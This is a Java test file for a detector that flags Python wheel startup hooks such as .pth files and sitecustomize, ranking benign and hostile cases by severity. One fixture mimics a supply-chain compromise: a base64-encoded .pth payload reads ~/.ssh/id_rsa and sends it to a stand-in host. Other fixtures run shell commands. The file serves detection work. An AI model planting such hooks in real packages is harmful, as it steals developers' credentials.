package dev.gatehouse.analyzer.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.AnalysisLimits;
import dev.gatehouse.analyzer.Analyzer;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.WheelFixture;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code .pth} files and {@code sitecustomize}: code that runs at every interpreter start. */
class WheelStartupHookTest {
  @TempDir Path tmp;

  private final Analyzer analyzer = new Analyzer(AnalysisLimits.defaults());

  private List<CodeFinding> hooks(WheelFixture wheel) throws IOException {
    return analyzer.analyze(wheel.build(tmp), ArtifactKind.WHEEL).codeFindings().stream()
        .filter(f -> f.trigger() == Trigger.STARTUP_HOOK).toList();
  }

  private static String b64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /** The March 2026 LiteLLM compromise: a .pth that starts a child Python on a base64 payload. */
  @Test
  void liteLlmStylePthStartingAChildPythonOnABase64PayloadIsCritical() throws IOException {
    String payload = "import os, urllib.request\n"
        + "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        + "urllib.request.urlopen('https://collector.invalid/k', data=key.encode())\n";
    WheelFixture wheel = WheelFixture.named("litellm", "1.82.8")
        .file("litellm/__init__.py", "from .main import completion\n")
        .file("litellm/main.py", "def completion(**kw):\n    return kw\n")
        .file("litellm_init.pth", "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
            + "\"import base64; exec(base64.b64decode('" + b64(payload) + "'))\"])\n");
    CodeFinding hook = hooks(wheel).get(0);
    assertThat(hook.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(hook.capabilities()).contains(Capability.PROCESS_SPAWN, Capability.ENCODED_PAYLOAD,
        Capability.DYNAMIC_CODE, Capability.CREDENTIAL_READ, Capability.NETWORK);
    assertThat(hook.evidence().path()).isEqualTo("litellm_init.pth");
    assertThat(hook.evidence().location()).isEqualTo("line 1");
    assertThat(hook.summary()).startsWith("litellm_init.pth line 1 runs at every interpreter start; it runs an encoded payload");
  }

  @Test
  void pthThatExecsABase64PayloadDirectlyIsCritical() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("demo.pth", "import base64; exec(base64.b64decode('" + b64("print(1)") + "'))\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD);
    });
  }

  @Test
  void pthOfFolderPathsOnlyRunsNothingAndIsInfo() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0").file("demo.pth", "# vendored code\nvendor\n\nlib/extra\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.INFO);
      assertThat(f.capabilities()).isEmpty();
      assertThat(f.summary()).isEqualTo("demo.pth adds 2 folders to sys.path at every interpreter start; it runs no code");
    });
  }

  @Test
  void setuptoolsDistutilsPrecedencePthIsLowByAnalysisNotByName() throws IOException {
    WheelFixture wheel = WheelFixture.named("setuptools", "84.0.0")
        .file("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
            + "'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
        .file("_distutils_hack/__init__.py", """
            import sys
            import os

            is_pypy = '__pypy__' in sys.builtin_module_names

            def enabled():
                which = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local')
                return which == 'local'

            class DistutilsMetaFinder:
                def find_spec(self, fullname, path, target=None):
                    if path is not None or not fullname.startswith('distutils'):
                        return None
                    import importlib
                    return importlib.util.find_spec('setuptools._distutils')

            DISTUTILS_FINDER = DistutilsMetaFinder()

            def add_shim():
                DISTUTILS_FINDER in sys.meta_path or insert_shim()

            def insert_shim():
                sys.meta_path.insert(0, DISTUTILS_FINDER)
            """)
        .file("setuptools/__init__.py", "import _distutils_hack\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.capabilities()).isEmpty();
      assertThat(f.summary()).endsWith("it imports _distutils_hack of this artifact, which reaches nothing notable");
    });
  }

  @Test
  void editableInstallFinderPthIsLow() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("__editable__.demo-1.0.pth", "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n")
        .file("__editable___demo_1_0_finder.py", """
            import sys
            from importlib.machinery import ModuleSpec, PathFinder
            from importlib.util import spec_from_file_location
            from pathlib import Path

            MAPPING = {'demo': '/home/dev/src/demo'}
            NAMESPACES = {}
            PATH_PLACEHOLDER = '__editable__.demo-1.0.finder' + '.__path_hook__'

            class _EditableFinder:
                @classmethod
                def find_spec(cls, fullname, path=None, target=None):
                    if fullname in MAPPING:
                        return spec_from_file_location(fullname, Path(MAPPING[fullname]) / '__init__.py')
                    return None

            def install():
                if not any(finder == _EditableFinder for finder in sys.meta_path):
                    sys.meta_path.append(_EditableFinder)
            """);
    assertThat(hooks(wheel)).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
  }

  @Test
  void namespacePackagePthOfOldSetuptoolsIsLow() throws IOException {
    WheelFixture wheel = WheelFixture.named("sphinxcontrib-jsmath", "1.0.1")
        .file("sphinxcontrib/jsmath/__init__.py", "version = '1.0.1'\n")
        .file("sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
            + "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));"
            + "importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
            + "m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec("
            + "importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));"
            + "m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));"
            + "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.summary()).endsWith("it uses only the standard library and reaches nothing notable");
    });
  }

  @Test
  void coverageStylePthThatExecsALiteralIsReadThroughTheLiteral() throws IOException {
    WheelFixture wheel = WheelFixture.named("coverage", "7.16.2")
        .file("coverage/__init__.py", "from coverage.control import process_startup\n")
        .file("coverage/control.py", "import os\ndef process_startup(slug=''):\n    return os.getenv('COVERAGE_PROCESS_START')\n")
        .file("a1_coverage.pth", "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n try:\\n"
            + "  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug=\"pth\")')\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.capabilities()).isEmpty();
    });
  }

  @Test
  void pthThatImportsAPackageTheWheelDoesNotShipIsMedium() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0").file("demo.pth", "import helperlib; helperlib.boot()\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).contains("helperlib", "which this artifact does not ship");
    });
  }

  @Test
  void modulesAPthImportsAreAnalyzedAsPartOfTheHook() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("demo.pth", "import demo_boot\n")
        .file("demo_boot.py", "import os, socket\nos.system('id')\nsocket.socket().connect(('c.invalid', 443))\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
      assertThat(f.summary()).contains("demo_boot.py:2", "demo_boot.py:3");
    });
  }

  @Test
  void pthFilesLandingInSitePackagesThroughTheDataFolderAreStartupHooks() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .data("purelib/aa.pth", "import os; os.system('id')\n")
        .data("data/lib/python3.12/site-packages/bb.pth", "import os; os.system('id')\n");
    assertThat(hooks(wheel)).hasSize(2).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
  }

  @Test
  void pthFilesInsidePackageFoldersAreNotReadBySite() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("demo/models/alex.pth", "import os; os.system('id')\n");
    assertThat(hooks(wheel)).isEmpty();
  }

  @Test
  void sitecustomizeInSitePackagesIsAStartupHookAtLeastMedium() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("sitecustomize.py", "import sys\nsys.dont_write_bytecode = True\n")
        .file("demo/_vendored/sitecustomize.py", "import os\nos.system('id')\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.evidence().path()).isEqualTo("sitecustomize.py");
      assertThat(f.summary()).startsWith("sitecustomize.py lands in site-packages");
    });
  }

  @Test
  void indentedImportLinesAreTreatedAsCode() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0").file("demo.pth", "\timport os; os.system('id')\n");
    assertThat(hooks(wheel)).singleElement().satisfies(f -> assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN));
  }
}
